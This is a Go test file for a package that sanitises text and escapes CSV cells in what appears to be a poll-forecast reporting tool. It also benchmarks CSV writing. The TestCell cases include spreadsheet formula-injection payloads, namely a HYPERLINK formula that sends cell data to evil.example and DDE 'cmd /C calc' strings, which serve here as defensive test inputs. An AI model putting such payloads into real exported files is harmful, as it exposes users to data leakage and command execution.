package safe

import (
	"bytes"
	"encoding/csv"
	"errors"
	"strings"
	"testing"
	"unicode/utf8"

	"forecast/reports/safe/safetest"
)

func TestText(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"", ""},
		{"Ifop-Fiducial", "Ifop-Fiducial"},
		{"Mélenchon\tet\r\nLe Pen", "Mélenchon\tet\r\nLe Pen"},
		{"a\x00b", "a\uFFFDb"},
		{"\x01\x1b[31mred\x7f", "\uFFFD\uFFFD[31mred\uFFFD"},
		{"c1 \u0085 \u009b", "c1 \uFFFD \uFFFD"},
		{"nonchar \uFDD0 \uFFFE \uFFFF \U0001FFFE", "nonchar \uFFFD \uFFFD \uFFFD \uFFFD"},
		{"bad \xff\xfe utf-8 \xc3", "bad \uFFFD\uFFFD utf-8 \uFFFD"},
		{"kept \uFFFD \U0001F600 \uFDEF\uFDF0", "kept \uFFFD \U0001F600 \uFFFD\uFDF0"},
	} {
		got := Text(c.in)
		if got != c.want {
			t.Errorf("Text(%q) = %q, want %q", c.in, got, c.want)
		}
		if !utf8.ValidString(got) {
			t.Errorf("Text(%q) is not UTF-8", c.in)
		}
		if b := Bytes([]byte(c.in)); string(b) != c.want {
			t.Errorf("Bytes(%q) = %q, want %q", c.in, b, c.want)
		}
	}
}

// TestCell checks OWASP's rule (a quote before =, +, -, @, tab, CR) and
// that numbers stay numbers.
func TestCell(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?x="&A1,"OW")`, `'=HYPERLINK("http://evil.example/?x="&A1,"OW")`},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"@SUM(1+1)", "'@SUM(1+1)"},
		{"\t=1+2", "'\t=1+2"},
		{"\r=1+2", "'\r=1+2"},
		{"-", "'-"},
		{"\x00=1", "\uFFFD=1"},
		{"-1.71", "-1.71"},
		{"-0", "-0"},
		{"+3", "+3"},
		{"-1e-05", "-1e-05"},
		{"-Inf", "-Inf"},
		{"-1e999", "-1e999"},
		{"1.5", "1.5"},
		{"Ifop = 2", "Ifop = 2"},
		{"", ""},
	} {
		if got := Cell(c.in); got != c.want {
			t.Errorf("Cell(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

func TestWriteCSV(t *testing.T) {
	var b bytes.Buffer
	if err := WriteCSV(&b, []string{"name", "error"}, [][]string{{"=1+1", "-1.71"}, {"a,\"b\"", "2"}}); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{{"name", "error"}, {"'=1+1", "-1.71"}, {`a,"b"`, "2"}}
	if len(recs) != len(want) {
		t.Fatalf("got %q, want %q", recs, want)
	}
	for i := range want {
		if strings.Join(recs[i], "|") != strings.Join(want[i], "|") {
			t.Errorf("record %d: got %q, want %q", i, recs[i], want[i])
		}
	}
}

func TestWriteCSVError(t *testing.T) {
	full := safetest.DevFull(t)
	if err := WriteCSV(full, []string{"a"}, [][]string{{"1"}}); err == nil {
		t.Error("WriteCSV to /dev/full: no error")
	}
}

func TestWriter(t *testing.T) {
	var b bytes.Buffer
	w := NewTextWriter(&b)
	if _, err := w.Write([]byte("a\x1b[2Jb\n")); err != nil || w.Err() != nil {
		t.Fatal(err)
	}
	if b.String() != "a\uFFFD[2Jb\n" {
		t.Errorf("text writer wrote %q", b.String())
	}
	w = NewWriter(safetest.DevFull(t))
	w.Write([]byte("x"))
	if w.Err() == nil {
		t.Fatal("no error writing to /dev/full")
	}
	if n, err := w.Write([]byte("y")); n != 0 || !errors.Is(err, w.Err()) {
		t.Errorf("after an error, Write = %d, %v", n, err)
	}
}

// rows is a table like score's CSV: text, signed numbers, a few names.
func rows() [][]string {
	var out [][]string
	for i := range 1000 {
		out = append(out, []string{"fr-2017-presidential", "1", "ifop-fiducial", "Ifop-Fiducial", "poll",
			"-1.7134567890123", "0.0123456789", "2017-04-21", "https://example.org/a?b=c", strings.Repeat("x", i%20)})
	}
	return out
}

// BenchmarkWriteCSV and BenchmarkEncodingCSV measure what Cell costs over
// encoding/csv alone.
func BenchmarkWriteCSV(b *testing.B) {
	r := rows()
	var buf bytes.Buffer
	for b.Loop() {
		buf.Reset()
		WriteCSV(&buf, r[0], r[1:])
	}
}

func BenchmarkEncodingCSV(b *testing.B) {
	r := rows()
	var buf bytes.Buffer
	for b.Loop() {
		buf.Reset()
		cw := csv.NewWriter(&buf)
		cw.WriteAll(r)
	}
}

// BenchmarkBytes reads a clean 1 MB page, as index.html is.
func BenchmarkBytes(b *testing.B) {
	page := []byte(strings.Repeat("<p>Mélenchon, Le Pen — 21,3 %</p>\n", 30000))
	b.SetBytes(int64(len(page)))
	for b.Loop() {
		Bytes(page)
	}
}
